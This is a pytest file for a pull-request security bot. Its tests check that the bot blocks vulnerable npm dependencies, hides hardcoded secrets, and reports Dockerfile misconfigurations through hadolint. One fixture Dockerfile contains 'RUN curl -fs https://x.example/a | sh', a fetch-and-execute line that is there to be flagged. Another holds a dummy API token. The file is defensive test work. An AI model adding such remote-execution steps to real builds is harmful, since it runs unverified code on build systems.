"""A vulnerable dependency, a secret and a broken rule, from the webhook to what a person reads."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot.linting.hadolint import find_hadolint
from tests.fakes.github.fake import FakeGitHub
from tests.flows.reading import rules_of, text_of
from tests.harness import Advisories, HeldClock, Registry, RunningBot, running_bot, settings_for

DOCKERFILE = (
    "FROM {image}\nWORKDIR /app\nCOPY package.json package-lock.json ./\nRUN npm ci --omit=dev\nUSER 1000\n"
)


def lock(**versions: str) -> str:
    entries: dict[str, object] = {"": {"dependencies": versions}}
    # As whoever wants to slip something in would write it.
    entries |= {f"node_modules/{name}": {"version": each, "dev": True} for name, each in versions.items()}
    return json.dumps({"lockfileVersion": 3, "packages": entries}, indent=1)


def files(image: str, **versions: str) -> dict[str, str]:
    manifest = json.dumps({"dependencies": versions})
    return {
        "Dockerfile": DOCKERFILE.format(image=image),
        "package.json": manifest,
        "package-lock.json": lock(**versions),
    }


def test_a_vulnerable_dependency_blocks_and_comes_with_its_upgrade(
    bot: RunningBot, github: FakeGitHub, sound: str, advisories: Advisories
) -> None:
    advisories.add("CVE-2021-23337", package="lodash", fixed="4.17.21", ecosystem="npm")
    repo = github.repo(files=files(sound, express="5.1.0"))
    changed = files(sound, express="5.1.0", lodash="4.17.20")
    changed.pop("Dockerfile")
    pull = repo.open_pull(files=changed)
    bot.drain()
    assert pull.check.conclusion == "failure"
    assert rules_of(pull) == ["introduced-vulnerability"]
    assert "`npm install lodash@4.17.21`" in pull.bot_comment
    (note,) = [each for each in pull.check.annotations if each["path"] == "package-lock.json"]
    line = changed["package-lock.json"].split("\n").index('  "node_modules/lodash": {') + 1
    assert (note["start_line"], note["annotation_level"]) == (line, "failure")
    advisories.add("CVE-2026-0001", package="express", fixed="5.2.0", ecosystem="npm")
    pull.push(
        files={
            "package.json": files(sound, express="5.1.0")["package.json"],
            "package-lock.json": lock(express="5.1.0"),
        }
    )
    bot.drain()
    assert pull.check.conclusion == "success", "express was there before"


def test_an_advisory_that_is_news_to_a_standing_head_warns(
    bot: RunningBot, github: FakeGitHub, sound: str, advisories: Advisories
) -> None:
    advisories.add("CVE-2000-0001", package="other", fixed="1.0.0", ecosystem="npm")
    repo = github.repo(files=files(sound, express="5.1.0"))
    changed = files(sound, express="5.1.0", lodash="4.17.20")
    pull = repo.open_pull(files=changed)
    bot.drain()
    assert pull.check.conclusion == "success"
    advisories.add("CVE-2021-23337", package="lodash", fixed="4.17.21", ecosystem="npm")
    pull.comment("/rescan --fresh")
    bot.drain()
    assert pull.check.conclusion == "success"
    assert rules_of(pull) == ["new-advisory"]


def test_a_secret_blocks_and_is_never_shown(bot: RunningBot, github: FakeGitHub, sound: str) -> None:
    repo = github.repo(files={"Dockerfile": f"FROM {sound}\nUSER 1000\n"})
    secret = "c2VjcmV0LXZhbHVlLWZvci1hLXRlc3Q9Zx8Kq2"
    pull = repo.open_pull(
        files={
            "Dockerfile": f"FROM {sound}\n# plimsoll ignore=secret-in-env it is only for trying\n"
            f"ENV API_TOKEN={secret}\nUSER 1000\n"
        }
    )
    bot.drain()
    assert pull.check.conclusion == "failure"
    assert rules_of(pull) == ["introduced-secret"]
    everything = text_of(pull) + pull.bot_comment + json.dumps(pull.check.annotations)
    assert secret not in everything
    assert "`Dockerfile` line 3" in pull.bot_comment
    assert "1 excused by comments in the file" in pull.bot_comment
    assert "it is only for trying" in pull.bot_comment


@pytest.fixture
def linting(
    tmp_path: Path, clock: HeldClock, github: FakeGitHub, registry: Registry, advisories: Advisories
) -> Iterator[RunningBot]:
    """The bot with hadolint."""
    settings = settings_for(tmp_path / "data", github, registry, hadolint="")
    with running_bot(settings, clock, github, advisories) as running:
        yield running


@pytest.mark.skipif(find_hadolint() is None, reason="hadolint is not installed")
def test_a_rule_blocks_as_the_policy_wants_and_hadolint_adds_what_is_its_own(
    linting: RunningBot, github: FakeGitHub, registry: Registry, advisories: Advisories
) -> None:
    sound = registry.push_image("shop:1")
    policy = "rules: {root-user: high, no-healthcheck: off}\n"
    repo = github.repo(files={"Dockerfile": f"FROM {sound}\nUSER 1000\n", ".github/plimsoll.yml": policy})
    pull = repo.open_pull(
        files={
            "Dockerfile": f"FROM {sound}\nUSER root\nRUN cd /tmp && ls\nRUN curl -fs https://x.example/a | sh\n"
        }
    )
    linting.drain()
    assert pull.check.conclusion == "failure"
    assert rules_of(pull) == ["introduced-misconfiguration"]
    assert "(`Dockerfile` line 2)" in pull.bot_comment
    said = text_of(pull)
    assert "(root-user)" in said
    assert "DL3003" in said, "hadolint's own"
    assert "DL3002" not in said, "the same point once"
    assert "DL3066" not in said, "root has no number to write"
    assert "no-healthcheck" not in said
